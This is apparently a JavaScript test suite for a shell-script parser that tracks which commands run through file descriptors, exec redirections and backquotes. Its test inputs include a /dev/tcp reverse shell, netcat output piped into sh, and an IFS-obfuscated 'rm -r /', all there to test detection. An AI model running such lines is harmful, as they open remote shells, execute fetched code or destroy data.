import { checkReads, loadParser } from './scriptOf';

describe('descriptors', () => {
  before(loadParser);

  it('that exec opens are read by what comes behind', () => {
    checkReads([
      ['exec 3<d.sh; sh <&3', ['exec', 'sh: rm']],
      ['exec 3<d.sh; cd a; cat <&3 | sh', ['exec', 'cd a', 'cat', 'sh: rm']],
      ['exec 3<d.sh 4<&3 3<&-; bash /dev/fd/4', ['exec', 'bash: rm']],
      ['exec {fd}<d.sh; sh <&$fd', ['exec', 'sh: rm']],
      ['exec 3<<<"rm a"; sh <&3', ['exec', 'sh: rm a']],
      ['exec 3< <(echo rm a); sh <&3', ['echo rm a', 'exec', 'sh: rm a']],
      ['exec 3<d.sh; bash -c "sh <&3"', ['exec', 'bash sh: rm']],
      ['sh <&3', ['sh', '?dynamic present']],
      ['coproc nc h 1; sh <&${COPROC[0]}', ['nc h 1', 'sh', '?dynamic present']],
      ['if q; then exec 3<d.sh; fi; sh <&3', ['q', 'exec', 'sh', '?dynamic present']],
    ]);
  });

  it('of a block are read inside of it', () => {
    checkReads([
      ['{ sh <&3; } 3<d.sh; sh <&3', [':', 'sh: rm', 'sh', '?dynamic present']],
      ['while read -r -u 3 x; do y $x; done 3<list', [':', 'read -r -u 3 x', 'y a', 'read -r -u 3 x', 'y b']],
      ['while read x <&3; do y $x; done 3<list', [':', 'read x', 'y a', 'read x', 'y b']],
      ['sh 3<<A <<<"rm b"\nrm a\nA', ['sh: rm b']],
    ]);
  });

  it('in the place of the input are the input', () => {
    checkReads([
      ['exec <d.sh; sh', ['exec', 'sh: rm']],
      ['exec 0<d.sh; q | cat; sh', ['exec', 'q', 'cat', 'sh: rm']],
      ['exec 3<&0 <d.sh; exec <&3; sh', ['exec', 'exec', 'sh']],
      ['if q; then exec <d.sh; fi; sh', ['q', 'exec', 'sh', '?dynamic present']],
      ['bash >/dev/tcp/h/1 0>&1', ['bash', '?dynamic present']],
    ]);
  });

  it('hold what was written through them, one behind the other', () => {
    checkReads([
      ['exec 3>x; echo rm a >&3; echo rm b >&3; sh x', ['exec', 'echo rm a', 'echo rm b', 'sh: rm a', 'sh: rm b']],
      ['{ echo rm a; q; } 3>x; sh x', [':', 'echo rm a', 'q', 'sh x', '?unreadable present']],
      ['exec 3>&1; q >&3 2>&1; echo a 2>&1 >/dev/null', ['exec', 'q', 'echo a']],
    ]);
  });

  it('are no words of the command', () => {
    checkReads([
      ['rm 0<list a', ['rm a']],
      ['rm 2>/dev/null {fd}<list a', ['rm a']],
      ['rm 0 a <list', ['rm 0 a']],
    ]);
  });
});

describe('backquotes in the middle of a word', () => {
  before(loadParser);

  it('leave it one word', () => {
    checkReads([
      ['r`true`m a', ['true', 'rm a']],
      ['rm `echo a`b`echo c` d', ['echo a', 'echo c', 'rm abc d']],
      ['rm$IFS-r$IFS/', ['rm -r /']],
    ]);
  });
});
